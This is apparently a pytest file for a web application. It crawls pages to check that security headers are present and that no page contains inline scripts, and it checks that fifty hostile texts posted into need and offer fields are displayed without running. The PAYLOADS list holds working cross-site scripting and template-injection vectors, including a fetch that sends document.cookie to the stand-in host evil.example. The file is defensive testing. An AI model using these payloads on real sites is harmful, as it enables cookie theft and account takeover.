"""The policy on every response, and hostile texts that are shown everywhere and run nowhere."""

import re
from typing import Any
from urllib.parse import urljoin, urlsplit

import httpx
from bs4 import BeautifulSoup
from playwright.async_api import Browser

from alongside.platform.web.context import SESSION_COOKIE
from alongside.platform.web.security import HEADERS
from tests.browser.journey import NEED_TYPED
from tests.browser.server import Served
from tests.browser.session import Visitor, fill, visiting
from tests.client import Client
from tests.features.needs.form_values import posted_need
from tests.features.offers.form_values import posted_offer
from tests.patience import PATIENCE
from tests.personas import ADMINISTRATOR, HEAD_OF_MILL, HEAD_OF_PARK, LEAD_OF_NORTH, OFFICER, Persona
from tests.sampling import sampled

ASKED_FOR = (
    ("GET", "/nowhere", 404),
    ("GET", "/needs/nothing", 404),
    ("DELETE", "/home", 404),
    ("POST", "/needs", 403),
    ("POST", "/sign-in/persona", 403),
    ("GET", "/", 303),
    ("GET", "/brand.css", 200),
    ("GET", "/health/live", 200),
    ("GET", "/assets/nothing.css", 404),
)
RUN = "window.ran = 1; alert(1); fetch('https://evil.example/?' + document.cookie)"
FIRST = "window.ran=1"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror={FIRST}>",
    f'<svg onload="{RUN}">',
    f"<svg><script>{RUN}</script></svg>",
    f'<body onload="{RUN}">',
    f'<iframe srcdoc="<script>{RUN}</script>">',
    f'<iframe src="javascript:{RUN}">',
    f'<a href="javascript:{RUN}">look</a>',
    f"javascript:{RUN}",
    f"[look](javascript:{RUN})",
    f'" onfocus="{RUN}" autofocus x="',
    f"' onmouseover='{RUN}' x='",
    f'" onanimationstart="{RUN}" style="animation:x" x="',
    '" hx-get="//evil.example" hx-trigger="load" x="',
    "' hx-get='//evil.example' hx-trigger='load' x='",
    '<div hx-get="//evil.example" hx-trigger="load"></div>',
    f'<div hx-on::load="{RUN}"></div>',
    f"<div hx-vals='js:{{a: {FIRST}}}' hx-get=/ hx-trigger=load></div>",
    '<img src="https://evil.example/pixel">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<style>@import "https://evil.example/x.css";</style>',
    "<style>body{display:none}</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><button>Go</button></form>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<video src="https://evil.example/x.mp4" autoplay></video>',
    f'<details open ontoggle="{RUN}">x</details>',
    f'<input autofocus onfocus="{RUN}">',
    f'<marquee onstart="{RUN}">x</marquee>',
    f"<math><mtext></mtext><script>{RUN}</script></math>",
    f'<noscript><p title="</noscript><script>{RUN}</script>">',
    f"<template><script>{RUN}</script></template>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    "{{7*7}} {{config}} {% raw %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    f"{{{{constructor.constructor('{FIRST}')()}}}}",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<IMG SRC=x ONERROR="{RUN}">',
    f"<img/src=x/onerror={FIRST}>",
    f"＜script＞{RUN}＜/script＞",
    f"\u202e<script>{RUN}</script>\u2066",
)


def headers_missing(answer: httpx.Response) -> list[str]:
    """The headers of the policy that an answer lacks or weakens; assets may be kept, since their names change."""
    kept = (
        {"cache-control", "vary"} if answer.request.url.path.startswith(("/assets/", "/brand.css")) else set()
    )
    return [
        f"{answer.request.method} {answer.request.url.path} {answer.status_code}: {name}"
        for name, value in HEADERS.items()
        if name not in kept and value.lower() not in answer.headers.get(name, "").lower()
    ]


def inline_parts(answer: httpx.Response) -> list[str]:
    """Whatever a policy without unsafe-* would stop: inline styles, inline scripts, handlers, and htmx's like."""
    page = BeautifulSoup(answer.text, "html5lib")
    found = [str(one)[:100] for one in page.select("style, [style], script:not([src])")]
    for one in page.find_all(True):
        found += [f"{one.name} {name}" for name in one.attrs if name.startswith(("on", "hx-on"))]
        found += [
            f"{one.name} hx-vals" for name in one.attrs if name == "hx-vals" and "js:" in str(one[name])
        ]
        found += [
            str(one)[:100] for name in ("href", "src") if str(one.get(name, "")).startswith("javascript:")
        ]
    return found


async def crawl(app_context: Served, one: Persona, limit: int = 120) -> tuple[int, list[str]]:
    """Follow every link from the desk; how many answers there were, and what was wrong with them."""
    wrong: list[str] = []
    seen: set[str] = set()
    waiting = ["/home", "/needs-and-offers?q=x&sort=nonsense", "/sign-in"]
    headers = {"host": f"{one.host}:{app_context.port}", "cookie": f"{SESSION_COOKIE}={one.token}"}
    async with httpx.AsyncClient(
        base_url=f"http://127.0.0.1:{app_context.port}", headers=headers, timeout=PATIENCE
    ) as http:
        for method, path, status in ASKED_FOR:
            answer = await http.request(method, path)
            assert answer.status_code == status, (method, path, answer.status_code)
            wrong += headers_missing(answer)
        while waiting and len(seen) < limit:
            path = waiting.pop(0)
            if (shape := re.sub(r"[0-9a-f-]{36}", "{id}", path)) in seen:
                continue
            seen.add(shape)
            answer = await http.get(path)
            wrong += headers_missing(answer)
            if "text/html" not in answer.headers.get("content-type", ""):
                continue
            wrong += [f"{path}: {part}" for part in inline_parts(answer)]
            page = BeautifulSoup(answer.text, "html5lib")
            for link in [*page.select("[href]"), *page.select("[src]")]:
                whither = urlsplit(urljoin(path, str(link.get("href") or link.get("src"))))
                if whither.scheme not in ("http", "https", "mailto"):
                    waiting.append(whither.path + (f"?{whither.query}" if whither.query else ""))
    return len(seen), wrong


async def test_every_response_carries_the_policy(app_context: Served, chromium: Browser) -> None:
    """Pages, parts, files, redirects and refusals alike; and no page has anything that the policy would stop."""
    async with visiting(chromium, app_context, HEAD_OF_MILL) as mill:
        await _post(mill, "/needs/new", NEED_TYPED, "Post this need")
    answers = 0
    for one in (HEAD_OF_MILL, LEAD_OF_NORTH, OFFICER, ADMINISTRATOR):
        seen, wrong = await crawl(app_context, one)
        assert wrong == []
        answers += seen
    assert answers > 60


async def _post(visitor: Visitor, path: str, answers: dict[str, str], button: str) -> str:
    await visitor.goes(path)
    await fill(visitor, answers)
    for _ in range(2):
        await visitor.page.get_by_role("button", name=button).click()
        await visitor.page.wait_for_load_state()
        again = await visitor.page.locator("[name^=checked_]").all()
        if not again:
            break
        for tick in again:
            await tick.check()
    assert re.search(r"/[0-9a-f-]{36}$", visitor.path), await visitor.reads()
    return visitor.path


def written(texts: tuple[str, ...], limits: dict[str, int]) -> list[dict[str, str]]:
    """All texts, dealt into the fields as they fit: each field gets each text in some round."""
    rounds: list[dict[str, str]] = []
    for name, limit in limits.items():
        stored, number = "", 0
        for text in texts:
            if len(text) > limit:
                continue
            if stored and len(stored) + len(text) + 1 > limit:
                number, stored = number + 1, ""
            stored = f"{stored} {text}".strip()
            while len(rounds) <= number:
                rounds.append({})
            rounds[number][name] = stored
    return rounds


NEED_FIELDS = {"title": 120, "wanted": 1900, "success_criteria": 1900}
OFFER_FIELDS = {"title": 120, "description": 1900, "leader_name": 100, "evidence_mathematics": 900}


async def test_hostile_texts_are_shown_and_do_not_run(app_context: Served, chromium: Browser) -> None:
    """Fifty texts in every text field of a need and an offer, on every page that shows them to anybody."""
    assert len(PAYLOADS) == 50
    sender = Client(app_context.app)
    looked_at: dict[str, Any] = {"checked_no_pupil": "y", "checked_second": "y"}
    needs = [
        await posted_need(sender, **(looked_at | texts), audience="everybody")
        for texts in written(PAYLOADS, NEED_FIELDS)
    ]
    offers = [
        await posted_offer(sender, HEAD_OF_PARK, audience="everybody", **ON_MATHEMATICS | texts)
        for texts in written(PAYLOADS, OFFER_FIELDS)
    ]
    lists = [
        "/needs-and-offers",
        "/needs-and-offers?q=script",
        "/home",
        "/needs",
        "/offers",
        "/notifications",
        "/outbox",
    ]
    forms = [f"{needs[0]}/edit", f"{offers[0]}/edit", f"{needs[0]}/proposals/new"]
    seen_by = {
        HEAD_OF_MILL: [*sampled(needs, 0.2, "own needs"), offers[0], *lists, *forms],
        HEAD_OF_PARK: [*sampled(offers, 0.2, "own offers"), needs[0], *lists, *forms],
        LEAD_OF_NORTH: [*needs, *offers, *lists, *forms, "/consortium"],
    }
    read = ""
    for one, paths in seen_by.items():
        # the policy must not be what saves us
        async with visiting(chromium, app_context, one, bypass_csp=True) as visitor:
            for path in paths:
                await visitor.goes(path)
                await visitor.page.mouse.move(300, 400)
                assert await visitor.page.evaluate("window.ran") is None, path
                assert await visitor.page.locator(MADE_BY_A_TEXT).count() == 0, path
                assert "evil.example" not in visitor.page.url
                read += await visitor.reads()
    for text in PAYLOADS:
        assert " ".join(text.translate(UNSEEN).split()) in read.translate(UNSEEN), text


ON_MATHEMATICS = {
    "themes": ["mathematics"],
    "evidence_early_reading": None,
    "evidence_writing": None,
    "evidence_mathematics": "Two schools came to see it.",
}
MADE_BY_A_TEXT = "main img, main iframe, main script, main style, main object, main base"
UNSEEN = dict.fromkeys(map(ord, "\u202e\u2066"))
